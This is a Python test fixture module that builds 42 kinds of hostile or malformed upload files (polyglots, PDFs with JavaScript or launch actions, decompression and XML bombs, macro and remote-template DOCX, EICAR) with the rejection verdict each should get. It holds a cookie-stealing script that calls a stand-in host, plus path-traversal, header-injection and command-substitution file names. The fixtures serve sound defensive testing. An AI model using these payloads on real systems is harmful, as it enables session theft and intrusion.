"""The corpus of hostile and odd evidence: 42 kinds, each made anew from a seed, each with its verdict."""

import io
import struct
import unicodedata
import zlib
from collections.abc import Callable
from dataclasses import dataclass
from random import Random

from PIL import Image

from scorecard.evidence_files.pictures import PNG
from tests.evidence_files.making import (
    EICAR,
    PROGRAM,
    archive,
    chunk,
    docx,
    jpeg,
    noise,
    pdf,
    picture,
    relation,
    stream,
    xlsx,
)

TAKEN = ""  # the verdict of what is taken
SCRIPT = b"<script>fetch('https://a.invalid/'+document.cookie)</script>"
LIMIT_MB = 1


@dataclass(frozen=True)
class Sample:
    """One file with the name it came under, the reason why it is refused (TAKEN: none), and what it is warned of."""

    name: str
    content: bytes
    reason: str = TAKEN
    cautions: tuple[str, ...] = ()


Maker = Callable[[Random], Sample]
# What is no matter of content: where it is proved.
ELSEWHERE = {
    4: "tests/web/test_uploads.py",
    37: "tests/services/test_evidence_files_kept.py",
    38: "tests/services/test_evidence_files_kept.py",
    39: "tests/services/test_evidence_files_kept.py",
    42: "tests/web/test_uploads.py",
}


def html_page(dice: Random) -> bytes:
    return b"<!DOCTYPE html><html>" + b" " * dice.randrange(40) + SCRIPT + b"</html>"


def svg(dice: Random) -> bytes:
    return b'<svg xmlns="http://www.w3.org/2000/svg" width="%d">%b</svg>' % (dice.randrange(1, 99), SCRIPT)


def png_and_html(dice: Random) -> Sample:
    whole = picture("PNG", (dice.randrange(2, 40), 3))
    if dice.random() < 0.5:
        return Sample("a.png", whole + html_page(dice), "polyglot")
    return Sample("a.png", whole[:33] + chunk(b"tEXt", b"Comment\0" + html_page(dice)) + whole[33:], "script")


def pdf_and_zip(dice: Random) -> Sample:
    inner = archive({f"{dice.randrange(999)}.class": dice.randbytes(50)})
    if dice.random() < 0.5:
        return Sample("a.pdf", pdf() + inner, "polyglot")
    return Sample("a.pdf", pdf(objects=stream(6, b"", inner))[:-1], "polyglot")


def gif_and_jar(dice: Random) -> Sample:
    return Sample(
        "a.png", picture("GIF", (dice.randrange(2, 40), 3)) + archive({"A.class": b"\xca\xfe"}), "type"
    )


def jpeg_with_script(dice: Random) -> Sample:
    if dice.random() < 0.5:
        return Sample("a.jpg", jpeg(noise(dice), comment=SCRIPT), "script")
    exif = Image.Exif()
    exif[0x010E] = SCRIPT.decode()  # the description
    return Sample("a.jpg", jpeg(noise(dice), exif=exif.tobytes()), "script")


def pdf_with_script(dice: Random) -> Sample:
    action = b"<</S/JavaScript/JS(app.alert\\(%d\\))>>" % dice.randrange(999)
    way = dice.randrange(3)
    if way == 0:
        return Sample("a.pdf", pdf(catalog=b"/OpenAction" + action), "active")
    if way == 1:
        return Sample("a.pdf", pdf(catalog=b"/OpenAction" + action.replace(b"/Java", b"/J#61#76a")), "active")
    packed = zlib.compress(b"6 0 " + action)
    hidden = stream(7, b"/Type/ObjStm/N 1/First 4/Filter/FlateDecode", packed)
    return Sample("a.pdf", pdf(catalog=b"/OpenAction 6 0 R", objects=hidden), "active")


def pdf_that_launches(dice: Random) -> Sample:
    action = b"/OpenAction<</S/Launch/F(cmd%d.exe)>>" % dice.randrange(99)
    return Sample("a.pdf", pdf(catalog=action), "active")


def pdf_with_program(dice: Random) -> Sample:
    names = b"/Names<</EmbeddedFiles<</Names[(%d)6 0 R]>>>>" % dice.randrange(99)
    held = b"6 0 obj\n<</Type/Filespec/EF<</F 7 0 R>>>>\nendobj\n" + stream(7, b"/Type/EmbeddedFile", PROGRAM)
    return Sample("a.pdf", pdf(catalog=names, objects=held), "attached")


def pdf_encrypted(dice: Random) -> Sample:
    key = dice.randbytes(32).hex().encode()
    told = b"/Encrypt<</Filter/Standard/V 1/R 2/P -4/O<%b>/U<%b>>>/ID[<00><00>]" % (key, key)
    return Sample("a.pdf", pdf(trailer=told), "encrypted")


def pdf_cut(dice: Random) -> Sample:
    whole = pdf(text=b"x" * 500)
    return Sample("a.pdf", whole[: dice.randrange(20, len(whole) - 10)], "damaged")


def pdf_of_many_pages(dice: Random) -> Sample:
    if dice.random() < 0.5:
        return Sample(
            "a.pdf", pdf(kids=b"/Kids[3 0 R]/Count %d" % dice.randrange(500_000, 1_000_000)), "pages"
        )
    return Sample("a.pdf", pdf(kids=b"/Kids[2 0 R 2 0 R]/Count 2"), "damaged")


def pdf_bomb(dice: Random) -> Sample:
    if dice.random() < 0.5:
        body = zlib.compress(bytes(300 << 20), 9)
        return Sample("a.pdf", pdf(objects=stream(6, b"/Filter/FlateDecode", body)), "bomb")
    body = zlib.compress(zlib.compress(bytes(dice.randrange(1, 9) << 20), 9), 9)
    return Sample("a.pdf", pdf(objects=stream(6, b"/Filter[/FlateDecode/FlateDecode]", body)), "bomb")


def png_flood(dice: Random) -> Sample:
    side = dice.randrange(50_000, 60_001)
    head = struct.pack(">IIBBBBB", side, side, 1, 0, 0, 0, 0)
    body = chunk(b"IHDR", head) + chunk(b"IDAT", zlib.compress(bytes(999))) + chunk(b"IEND", b"")
    return Sample("a.png", PNG + body, "pixels")


def png_that_lies(dice: Random) -> Sample:
    whole = bytearray(picture("PNG", (40, 40)))
    whole[33:37] = struct.pack(">I", dice.randrange(1 << 20, 1 << 30))
    return Sample("a.png", bytes(whole), "damaged")


def odd_jpeg(dice: Random) -> Sample:
    exif = Image.Exif()
    exif[0x0112] = dice.randrange(2, 9)
    image = noise(dice).convert("CMYK") if dice.random() < 0.5 else noise(dice)
    return Sample("ảnh.JPG", jpeg(image, exif=exif.tobytes()))


def heic(dice: Random) -> Sample:
    return Sample("IMG.heic", b"\0\0\0\x18ftypheic\0\0\0\0mif1heic" + dice.randbytes(99), "heic")


def docx_with_macro(dice: Random) -> Sample:
    ole = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + dice.randbytes(99)
    if dice.random() < 0.5:
        return Sample("a.docx", docx({"word/vbaProject.bin": ole}), "macro")
    told = '<Default Extension="bin" ContentType="application/vnd.ms-office.vbaProject"/>'
    return Sample("a.docx", docx({"word/media/logo.bin": ole}, told=told), "macro")


def docx_with_remote_template(dice: Random) -> Sample:
    target = dice.choice(["https://a.invalid/t.dotm", "file:////10.0.0.1/t.dotm", r"\\10.0.0.1\t.dotm"])
    return Sample(
        "a.docx",
        docx({"word/_rels/settings.xml.rels": relation("attachedTemplate", target, True)}),
        "external",
    )


def docx_with_outer_picture(dice: Random) -> Sample:
    target = f"https://a.invalid/{dice.randrange(999)}.png"
    if dice.random() < 0.5:
        return Sample(
            "a.docx", docx({"word/_rels/document.xml.rels": relation("image", target, True)}), "external"
        )
    code = f'<w:p><w:r><w:instrText>INCLUDEPICTURE "{target}"</w:instrText></w:r></w:p>'
    return Sample("a.docx", docx(body=code), "external")


def office_bomb(dice: Random) -> Sample:
    way = dice.randrange(3)
    if way == 0:
        return Sample("a.xlsx", xlsx({"xl/sharedStrings.xml": bytes(80 << 20)}), "bomb")
    if way == 1:
        return Sample("a.docx", docx({f"word/media/{n}.bin": b"" for n in range(2500)}), "bomb")
    laughs = '<!DOCTYPE a [<!ENTITY b "ha"><!ENTITY c "&b;&b;&b;">]><a>&c;</a>'
    return Sample("a.docx", docx({"word/styles.xml": laughs}), "xml")


def program(dice: Random) -> Sample:
    return dice.choice(
        [
            Sample("a.exe", PROGRAM, "type"),
            Sample("a.scr", PROGRAM + dice.randbytes(9), "type"),
            Sample("a.hta", b"<hta:application/>" + SCRIPT, "type"),
            Sample("a.lnk", b"L\0\0\0\x01\x14\x02\0" + dice.randbytes(60), "type"),
            Sample("a.iso", bytes(32769) + b"CD001", "type"),
            Sample("a.js", b"new ActiveXObject('WScript.Shell')", "type"),
        ]
    )


def malware(dice: Random) -> Sample:
    if dice.random() < 0.5:
        return Sample("a.zip", archive({"a.com": EICAR}), "malware")
    return Sample("a.docx", docx({f"word/media/{dice.randrange(9)}.bin": EICAR}), "malware")


def photo_with_place(dice: Random) -> Sample:
    exif = Image.Exif()
    exif.get_ifd(0x8825).update({1: "N", 2: (20.0, 51.0, dice.random()), 3: "E", 4: (106.0, 41.0, 2.0)})
    exif[0x0112] = dice.randrange(1, 9)
    out = io.BytesIO()
    noise(dice).save(out, "JPEG", exif=exif.tobytes())
    return Sample("IMG_0001.JPG", out.getvalue(), TAKEN, ("location",))


def named(*names: str) -> Maker:
    """A good file under a bad name."""
    return lambda dice: Sample(dice.choice(names), pdf(text=b"%d" % dice.randrange(999)))


LONG = unicodedata.normalize("NFD", "Báo cáo kết quả thực hiện ắ" * 30)[:296] + ".pdf"
KINDS: dict[int, tuple[str, Maker]] = {
    1: ("empty", lambda dice: Sample("minh-chung", b"", "empty")),
    2: ("empty, named .pdf", lambda dice: Sample("a.pdf", b"", "empty")),
    3: ("larger than the limit", lambda dice: Sample("a.pdf", pdf() + bytes(LIMIT_MB << 20), "too_large")),
    5: ("HTML renamed .pdf", lambda dice: Sample("a.pdf", html_page(dice), "type")),
    6: ("SVG with a script", lambda dice: Sample("a.svg", svg(dice), "type")),
    7: ("SVG renamed .png", lambda dice: Sample("a.png", svg(dice), "type")),
    8: ("PNG and HTML in one", png_and_html),
    9: ("PDF and zip in one", pdf_and_zip),
    10: ("GIF and JAR in one", gif_and_jar),
    11: ("JPEG with a script in a comment or Exif", jpeg_with_script),
    12: ("PDF that runs JavaScript when opened", pdf_with_script),
    13: ("PDF that launches a program", pdf_that_launches),
    14: ("PDF with a program attached", pdf_with_program),
    15: ("PDF with a password", pdf_encrypted),
    16: ("PDF cut off", pdf_cut),
    17: ("PDF of a million pages, or whose pages hold themselves", pdf_of_many_pages),
    18: ("PDF with a packed bomb", pdf_bomb),
    19: ("PNG of 60,000 by 60,000", png_flood),
    20: ("PNG whose chunk lies about its length", png_that_lies),
    21: ("JPEG in CMYK or turned", odd_jpeg),
    22: ("HEIC from a phone", heic),
    23: ("DOCX with a macro", docx_with_macro),
    24: ("DOCX with a remote template", docx_with_remote_template),
    25: ("DOCX with a picture from elsewhere", docx_with_outer_picture),
    26: ("DOCX or XLSX bomb", office_bomb),
    27: ("program, shortcut, disk image, script", program),
    28: ("double ending", lambda dice: Sample("a.pdf.exe", PROGRAM + dice.randbytes(9), "type")),
    29: ("name that reads backwards", named("hóa\u202efdp.exe", "\u2067fdp.exe.pdf")),
    30: ("name of an NTFS stream", named("a.exe:$x.pdf", "a.pdf::$DATA")),
    31: ("names that Windows keeps", named("CON.pdf", "nul", "LPT1.txt.pdf", "a.pdf. ", "com1 .pdf")),
    32: (
        "names that lead elsewhere",
        named("../../etc/passwd", "/etc/passwd", r"\\10.0.0.1\c$\a.pdf", r"C:\a.pdf"),
    ),
    33: ("NUL and line ends in the name", named("a\0.pdf", "a\r\nSet-Cookie: b=c.pdf")),
    34: ("quotes and signs in the name", named('a";filename=b.exe.pdf', "100%;'`$(x).pdf")),
    35: ("300 bytes of decomposed Vietnamese", named(LONG)),
    36: ("emoji and letters of no width", named("bao\u200bcao 🏛️.pdf", "\u200f\ufeff.pdf")),
    40: ("the test pattern of virus scanners inside", malware),
    41: ("photo that tells where it was taken", photo_with_place),
}


def sample(number: int, variant: int) -> Sample:
    """One file of a kind; the same for the same two numbers."""
    return KINDS[number][1](Random(f"{number}-{variant}"))
